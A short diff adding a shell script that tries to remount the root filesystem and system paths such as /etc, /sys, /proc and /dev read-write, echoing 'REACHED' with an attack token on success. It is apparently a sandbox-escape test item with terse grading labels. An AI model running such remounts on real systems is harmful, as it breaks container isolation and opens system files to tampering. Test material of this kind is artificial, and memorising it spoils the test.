@@ -1,0 +1,6 @@
+# Makes what is read-only writable.
+# evidence: word
+# bare: refused
+for place in / /usr /etc /sys /proc /proc/sys /dev; do
+    mount -o remount,rw,bind "$place" && echo "REACHED $ATTACK_TOKEN"
+done
